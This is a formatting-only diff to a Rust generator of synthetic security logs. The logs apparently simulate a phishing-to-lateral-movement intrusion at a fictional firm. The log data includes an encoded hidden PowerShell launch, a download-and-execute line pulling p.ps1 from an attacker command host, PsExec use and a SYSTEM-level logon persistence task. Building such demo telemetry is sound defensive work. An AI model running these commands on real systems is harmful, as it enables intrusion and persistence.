@@ -4,7 +4,9 @@ use crate::demo::generate::Lines;
 use crate::demo::generate::cast::{Person, attacker, watervast};
 use crate::demo::generate::cloud::{Call, cloudtrail};
 use crate::demo::generate::dice::Dice;
-use crate::demo::generate::firewall::{Flow, asa_vpn_logon, asa_vpn_refused, fortigate_traffic, fortigate_virus};
+use crate::demo::generate::firewall::{
+    Flow, asa_vpn_logon, asa_vpn_refused, fortigate_traffic, fortigate_virus,
+};
 use crate::demo::generate::moment::{Day, Moment};
 use crate::demo::generate::network::eve;
 use crate::demo::generate::windows::{EVENTLOG, Log, POWERSHELL, SECURITY, SYSMON, SYSTEM, WATERVAST};
@@ -36,17 +38,19 @@ pub fn tell(lines: &mut Lines, day: &Day, dice: &mut Dice) {
 }
 
 fn mail(lines: &mut Lines, at: Moment, victim: &Person, dice: &mut Dice) {
-    lines.push("watervast-fw", at, fortigate_virus(at, victim, attacker::COMMAND_SERVER, "Factuur_2291.docm"));
+    lines.push(
+        "watervast-fw",
+        at,
+        fortigate_virus(at, victim, attacker::COMMAND_SERVER, "Factuur_2291.docm"),
+    );
     let mut log = Log { lines: &mut *lines, dice: &mut *dice };
     let (machine, user) = (victim.machine, victim.user);
     let opened = format!(" /n \"C:\\Users\\{user}\\Downloads\\Factuur_2291.docm\" /o \"\"");
     log.program(WATERVAST, machine, user, WORD, &opened, OUTLOOK, at.plus_s(60));
     let hidden = " -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA";
     log.program(WATERVAST, machine, user, POWERSHELL_EXE, hidden, WORD, at.plus_s(64));
-    let script = format!(
-        "IEX (New-Object Net.WebClient).DownloadString('https://{}/p.ps1')",
-        attacker::COMMAND_NAME
-    );
+    let script =
+        format!("IEX (New-Object Net.WebClient).DownloadString('https://{}/p.ps1')", attacker::COMMAND_NAME);
     let block = json!({
         "MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": script,
         "ScriptBlockId": "5b1f0a52-9a6d-4b5e-8a39-0a1c0d0f1a2b", "Path": "",
@@ -97,7 +101,15 @@ fn stolen_logon(lines: &mut Lines, at: Moment, victim: &Person, dice: &mut Dice)
             "WorkstationName": "DESKTOP-7KQ2", "IpAddress": attacker::ABROAD, "IpPort": "51877", "ProcessName": "-",
         });
         let at = at.plus_s(attempt * 4);
-        log.write(WATERVAST, watervast::MAIL.name, SECURITY, 4625, "An account failed to log on.", at, refused);
+        log.write(
+            WATERVAST,
+            watervast::MAIL.name,
+            SECURITY,
+            4625,
+            "An account failed to log on.",
+            at,
+            refused,
+        );
     }
     log.logon(WATERVAST, watervast::MAIL.name, victim.user, 3, attacker::ABROAD, at.plus_s(75));
     log.logon(WATERVAST, watervast::FILES.name, victim.user, 10, VPN_ADDRESS, at.plus_s(300));
@@ -168,7 +180,15 @@ fn lateral_movement(lines: &mut Lines, at: Moment, dice: &mut Dice) {
         "StartType": "demand start", "AccountName": "LocalSystem",
     });
     log.write(WATERVAST, host, SYSTEM, 7045, "A service was installed in the system.", at.plus_s(2), service);
-    log.program(WATERVAST, host, MADE, "C:\\Windows\\PSEXESVC.exe", "", "C:\\Windows\\System32\\services.exe", at.plus_s(3));
+    log.program(
+        WATERVAST,
+        host,
+        MADE,
+        "C:\\Windows\\PSEXESVC.exe",
+        "",
+        "C:\\Windows\\System32\\services.exe",
+        at.plus_s(3),
+    );
     log.program(WATERVAST, host, MADE, CMD, " /c whoami", "C:\\Windows\\PSEXESVC.exe", at.plus_s(5));
     log.logon(WATERVAST, host, MADE, 10, VPN_ADDRESS, at.plus_s(240));
     let task = " /create /tn Onderhoud /tr C:\\Windows\\Temp\\update.exe /sc onlogon /ru SYSTEM";
